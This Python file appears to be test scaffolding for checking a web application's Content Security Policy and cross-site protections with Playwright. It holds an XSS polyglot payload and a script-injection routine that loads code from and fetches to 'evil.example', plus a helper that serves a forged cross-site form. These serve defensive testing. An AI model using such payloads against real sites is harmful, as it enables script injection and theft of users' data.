"""Another site, and a watch over what runs in a page and what its policy forbids."""

import http.server
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

from playwright.sync_api import Page

# Out of an attribute, out of a tag, out of a script, into a template of JavaScript.
WICKED = (
    "\"'><img src=x onerror=ran()><svg onload=ran()></script><script>ran()</script>"
    "<a href=javascript:ran()>{{7*7}}${7*7}<iframe srcdoc='<script>top.ran()</script>'>"
)
# Notes each word of the policy, and whatever runs that should not.
WATCH = """
  window.seen = [];
  window.ran = () => window.seen.push("a script ran");
  document.addEventListener("securitypolicyviolation", (event) =>
    window.seen.push(`${event.violatedDirective}: ${event.blockedURI}`));
"""
# What somebody would slip into a page who has found a way to.
SLIP_IN = """() => {
  const add = (name, more) =>
    document.body.append(Object.assign(document.createElement(name), more));
  document.body.insertAdjacentHTML("beforeend",
    "<img src='data:,x' onerror='ran()'><a id=bad href='javascript:ran()'>x</a>");
  add("script", { textContent: "ran()" });
  add("script", { src: "https://evil.example/x.js" });
  add("script", { src: "data:text/javascript,ran()" });
  add("iframe", { src: "https://evil.example/" });
  add("style", { textContent: "body { display: none }" });
  add("base", { href: "https://evil.example/" });
  document.getElementById("bad").click();
  // Later: what is called from here has rights that no page has.
  setTimeout(() => {
    try { new Function("ran()")(); } catch (error) { window.seen.push("no eval"); }
    fetch("https://evil.example/?what").catch(() => window.seen.push("no fetch"));
  });
}"""
READ = """(url) => fetch(url, { credentials: "include" })
  .then((answer) => answer.text(), (error) => `refused: ${error.name}`)"""
SHOW = """(url) => new Promise((tell) => {
  const image = new Image();
  image.onload = () => tell("shown");
  image.onerror = () => tell("refused");
  image.src = url;
})"""


def seen(page: Page) -> list[str]:
    noted: list[str] = page.evaluate("window.seen")
    return noted


class Site(http.server.ThreadingHTTPServer):
    """A site of somebody else's; whatever it is asked for, it answers with its page."""

    page = ""

    def posting(self, address: str, **fields: str) -> None:
        """Let its page have a form for another site, and parts of that site."""
        inputs = (f'<input name="{n}" value="{v}">' for n, v in fields.items())
        self.page = (
            f'<form method="post" action="{address}">{"".join(inputs)}'
            f'<button>Win</button></form><iframe src="{address}"></iframe>'
        )


class _Pages(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        site: Any = self.server
        body = site.page.encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: Any) -> None:
        """Say nothing."""


@contextmanager
def another_site() -> Iterator[Site]:
    """Serve it on this machine, under each name that the machine has."""
    with Site(("127.0.0.1", 0), _Pages) as site:
        thread = threading.Thread(target=site.serve_forever, daemon=True)
        thread.start()
        try:
            yield site
        finally:
            site.shutdown()
            thread.join()
